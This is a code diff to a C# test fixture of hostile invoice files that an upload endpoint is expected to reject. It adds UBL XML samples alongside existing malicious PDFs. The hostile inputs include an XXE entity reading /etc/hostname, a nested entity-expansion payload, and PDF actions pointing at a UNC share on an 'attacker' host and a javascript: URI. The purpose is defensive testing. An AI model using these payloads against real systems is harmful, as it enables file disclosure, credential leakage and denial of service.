@@ -193,6 +193,12 @@ public static class HostileFiles
             { "pdf-gotor-unc", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.active_content" },
             { "pdf-uri-javascript", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.active_content" },
             { "pdf-rendition", "faktura.pdf", "application/pdf", HttpStatusCode.UnprocessableEntity, "pdf.active_content" },
+            { "ubl-external-entity", "faktura.xml", "application/xml", HttpStatusCode.UnprocessableEntity, "einvoice.dtd_refused" },
+            { "ubl-entity-expansion", "faktura.xml", null, HttpStatusCode.UnprocessableEntity, "einvoice.dtd_refused" },
+            { "ubl-vat-not-adding-up", "faktura.xml", "text/xml", HttpStatusCode.UnprocessableEntity, "einvoice.BR-CO-15" },
+            { "ubl-lines-not-adding-up", "faktura.xml", "application/xml", HttpStatusCode.UnprocessableEntity, "einvoice.BR-CO-10" },
+            { "ubl-malformed", "faktura.xml", "application/xml", HttpStatusCode.UnprocessableEntity, "einvoice.malformed" },
+            { "xml-not-an-invoice", "faktura.xml", "application/xml", HttpStatusCode.UnsupportedMediaType, "type.unsupported" },
         };
 
     public static byte[] Bytes(string sample)
@@ -221,6 +227,13 @@ public static class HostileFiles
             "pdf-gotor-unc" => HostilePdf.OnePage("/MediaBox [0 0 200 200]", "/OpenAction 4 0 R", @"<< /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>"),
             "pdf-uri-javascript" => HostilePdf.OnePage("/MediaBox [0 0 200 200]", "/OpenAction 4 0 R", @"<< /S /URI /URI (javascript:app.alert\(1\)) >>"),
             "pdf-rendition" => HostilePdf.OnePage("/MediaBox [0 0 200 200]", "/OpenAction 4 0 R", "<< /S /Rendition /OP 0 >>"),
+            // The entity names a file every host has: were it read, the supplier's name would carry it.
+            "ubl-external-entity" => UblInvoices.WithExternalEntity("file:///etc/hostname").Bytes(),
+            "ubl-entity-expansion" => (UblInvoices.Valid with { Prolog = "<!DOCTYPE Invoice [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>", SupplierMarkup = "&b;" }).Bytes(),
+            "ubl-vat-not-adding-up" => (UblInvoices.Valid with { TaxInclusiveOre = 2_000_00, PayableOre = 2_000_00 }).Bytes(),
+            "ubl-lines-not-adding-up" => (UblInvoices.Valid with { LineExtensionOre = 1_000_00, TaxExclusiveOre = 1_000_00 }).Bytes(),
+            "ubl-malformed" => UblInvoices.Valid.Bytes()[..^20],
+            "xml-not-an-invoice" => Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?><Order xmlns=\"urn:oasis:names:specification:ubl:schema:xsd:Order-2\"/>"),
             _ => throw new ArgumentOutOfRangeException(nameof(sample)),
         };
     }
